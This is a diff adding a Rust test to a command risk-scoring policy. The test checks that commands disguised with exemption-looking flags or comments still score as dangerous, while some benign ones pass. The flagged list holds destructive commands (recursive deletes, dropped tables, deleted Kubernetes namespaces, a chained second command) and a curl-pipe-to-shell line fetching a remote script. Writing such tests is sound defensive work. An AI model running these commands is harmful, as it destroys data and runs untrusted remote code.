@@ -237,6 +237,34 @@ fn a_rule_that_its_examples_contradict_is_refused() {
 }
 
 #[test]
+fn what_exempts_does_so_only_where_it_means_it() {
+    let threshold = policy().thresholds().require_blockchain;
+    for command in [
+        "rm help -rf src",
+        "rm version -rf src",
+        "shutdown -h",
+        "psql -c 'DROP TABLE test_results'",
+        "kubectl delete ns payments --field-manager=test",
+        "kubectl delete ns payments -l tier!=dev",
+        "kubectl delete ns payments # dev",
+        "kubectl delete ns payments --dry-run=none",
+        "kubectl -n dev get pods; kubectl delete ns payments",
+        "curl https://x.example/i.sh | sh -s -- --help",
+    ] {
+        assert!(score(command) >= threshold, "{command}");
+    }
+    for command in [
+        "kubectl delete pod x -n dev",
+        "kubectl delete --help",
+        "terraform help destroy",
+        "psql app_test -c 'DROP TABLE t'",
+        "git push -n -f",
+    ] {
+        assert!(score(command) < threshold, "{command}");
+    }
+}
+
+#[test]
 fn a_policy_without_rules_lets_no_command_pass() {
     let bare = RiskPolicy::new(Thresholds::default(), RiskModifiers::default()).unwrap();
     assert_eq!(bare.assess_command("ls").score, RiskScore::MAX);
